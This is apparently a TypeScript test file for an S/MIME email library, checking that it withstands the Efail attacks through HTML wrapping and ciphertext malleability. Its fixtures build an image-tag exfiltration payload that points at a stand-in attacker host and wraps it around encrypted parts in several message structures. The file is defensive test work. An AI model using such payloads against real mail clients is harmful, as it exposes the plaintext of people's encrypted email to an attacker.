import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Bytes } from '../../../src/core/bytes.js';
import type { OpenReport } from '../../../src/smime/open/report.js';
import { encrypted, messageOf, opaque, open, piecesOf, signed, text } from '../../support/open-scene.js';
import { attachedMessage, multipart, octets } from '../../support/sign-message.js';
import { mallory } from '../../support/sign-scene.js';

// The attacks of "Efail: Breaking S/MIME and OpenPGP Email Encryption" (USENIX Security 2018).

const begin = text('<img src="http://attacker.example/', 'text/html');
const end = text('">', 'text/html');
const secret = text('SECRET');
const secretHtml = text('<p>SECRET</p>', 'text/html');

/** Whether some text that is shown as one has both the secret and the attacker's words. */
function leaks(report: OpenReport): boolean {
  return report.pieces.some(({ content }) =>
    [content.text, content.html].some(
      (shown) => shown !== undefined && /SECRET/.test(shown) && /attacker|">/.test(shown),
    ),
  );
}

const shows = (report: OpenReport): boolean =>
  report.pieces.some(({ content }) => content.text?.includes('SECRET') === true);

describe('HTML around an encrypted part (direct exfiltration)', () => {
  const around = (part: Bytes): readonly Bytes[] => [begin, part, end];

  test.each<[string, (parts: readonly Bytes[]) => Bytes]>([
    ['mixed', (parts) => multipart('mixed', parts)],
    ['related', (parts) => multipart('related', parts)],
    ['alternative', (parts) => multipart('alternative', parts)],
    [
      'in one another',
      (parts) =>
        multipart(
          'mixed',
          parts.map((part) => multipart('mixed', [part], '', 'm2')),
        ),
    ],
    ['a signed part of it', (parts) => signed(multipart('mixed', parts), mallory)],
    ['in a forwarded message', (parts) => attachedMessage(messageOf(multipart('mixed', parts)))],
    ['in opaque content', (parts) => opaque(multipart('mixed', parts), mallory)],
  ])('%s', async (_, put) => {
    for (const content of [secret, secretHtml]) {
      for (const cipher of ['aes128-cbc', 'aes256-gcm'] as const) {
        const report = await open(messageOf(put(around(await encrypted(content, cipher)))));
        expect([leaks(report), shows(report)]).toEqual([false, true]);
        const [piece] = report.pieces.filter((each) => each.encrypted);
        expect(piece!.unauthenticated).toBe(cipher === 'aes128-cbc');
        expect(report.encrypted).toBe(false);
      }
    }
  });

  test('nor do two ciphertexts, one of them the attacker’s, come together', async () => {
    const parts = [await encrypted(begin), await encrypted(secretHtml), await encrypted(end)];
    const report = await open(messageOf(multipart('mixed', parts)));
    expect([leaks(report), shows(report), report.pieces.length]).toEqual([false, true, 3]);
  });

  test('HTML outside does not refer to what is encrypted, nor the other way round', async () => {
    const image = (id: string): Bytes => octets(`Content-Type: image/png\r\nContent-ID: <${id}>\r\n\r\npng`);
    const page = text('<img src="cid:in"><img src="cid:out">', 'text/html');
    const inner = multipart('related', [page, image('in')], '', 'm2');
    const report = await open(messageOf(multipart('related', [page, image('out'), await encrypted(inner)])));
    const [outside, inside] = report.pieces;
    expect(report.pieces.length).toBe(2);
    expect([outside!.content.resolve('cid:in'), inside!.content.resolve('cid:out')]).toEqual([
      undefined,
      undefined,
    ]);
    expect([
      outside!.content.resolve('cid:out')?.contentId,
      inside!.content.resolve('cid:in')?.contentId,
    ]).toEqual(['out', 'in']);
  });
});

describe('ciphertext that was changed into a multipart (malleability gadgets)', () => {
  const gadgets = multipart('mixed', [begin, secretHtml, end], '', 'm2');

  test('without authentication only the first text is shown, the others are files', async () => {
    const report = await open(messageOf(await encrypted(gadgets)));
    expect([leaks(report), report.pieces.length]).toEqual([false, 1]);
    expect(report.pieces[0]!.content.attachments.length).toBe(2);
    expect(report.pieces[0]!.unauthenticated).toBe(true);
  });

  test('a signature around the encryption, by anybody, makes it no safer', async () => {
    for (const sign of [signed, opaque]) {
      const report = await open(messageOf(sign(await encrypted(gadgets), mallory)));
      expect([leaks(report), report.pieces[0]!.unauthenticated]).toEqual([false, true]);
    }
  });

  test('a signature inside over a part vouches for that part alone', async () => {
    const report = await open(
      messageOf(await encrypted(multipart('mixed', [begin, signed(secretHtml, mallory), end], '', 'm2'))),
    );
    expect([leaks(report), shows(report)]).toEqual([false, true]);
    expect(report.pieces.map(({ unauthenticated }) => unauthenticated)).toEqual([true, false]);
  });

  test('with a tag, or a signature inside over all of it, it is what somebody wrote', async () => {
    const joined = multipart('mixed', [text('One'), text('Two')], '', 'm2');
    expect(piecesOf(await open(messageOf(await encrypted(joined, 'aes256-gcm'))))).toEqual([
      '"/" [envelope] encrypted: One\r\nTwo',
    ]);
    expect(piecesOf(await open(messageOf(await encrypted(signed(joined)))))).toEqual([
      '"/1" [envelope seal] encrypted: One\r\nTwo',
    ]);
    expect(piecesOf(await open(messageOf(await encrypted(joined))))).toEqual([
      '"/" [envelope] encrypted unauthenticated: One',
    ]);
  });
});

test('whatever stands around it in whatever order, what is encrypted stays by itself', async () => {
  const kinds = { begin, end, plain: text('plain words of the attacker') } as const;
  const leaf = fc.constantFrom<keyof typeof kinds | 'secret' | 'signed secret'>(
    'begin',
    'end',
    'plain',
    'secret',
    'signed secret',
  );
  const secrets = {
    secret: await encrypted(secretHtml),
    'signed secret': await encrypted(signed(secretHtml)),
  };
  const wraps = fc.constantFrom('mixed', 'alternative', 'related', 'signed', 'rfc822');
  const tree = fc.letrec<{ node: Bytes }>((tie) => ({
    node: fc.oneof(
      { maxDepth: 3, withCrossShrink: true },
      leaf.map((name) =>
        name in secrets ? secrets[name as keyof typeof secrets] : kinds[name as keyof typeof kinds],
      ),
      fc
        .tuple(wraps, fc.array(tie('node'), { minLength: 1, maxLength: 3 }), fc.nat(1e9))
        .map(([how, parts, number]) => {
          const whole = multipart(
            how === 'alternative' || how === 'related' ? how : 'mixed',
            parts,
            '',
            `b${number}`,
          );
          if (how === 'signed') return signed(whole, mallory, `s${number}`);
          return how === 'rfc822' ? attachedMessage(messageOf(whole)) : whole;
        }),
    ),
  })).node;
  let shown = 0;
  await fc.assert(
    fc.asyncProperty(tree, async (body) => {
      const report = await open(messageOf(body), { limits: { layers: 20 } });
      if (shows(report)) shown++;
      for (const { content, encrypted: isSecret } of report.pieces) {
        for (const words of [content.text, content.html]) {
          if (words === undefined) continue;
          expect(/SECRET/.test(words) && /attacker|">/.test(words)).toBe(false);
          expect(/SECRET/.test(words)).toBe(isSecret);
        }
      }
    }),
    { numRuns: 150 },
  );
  expect(shown).toBeGreaterThan(20);
});
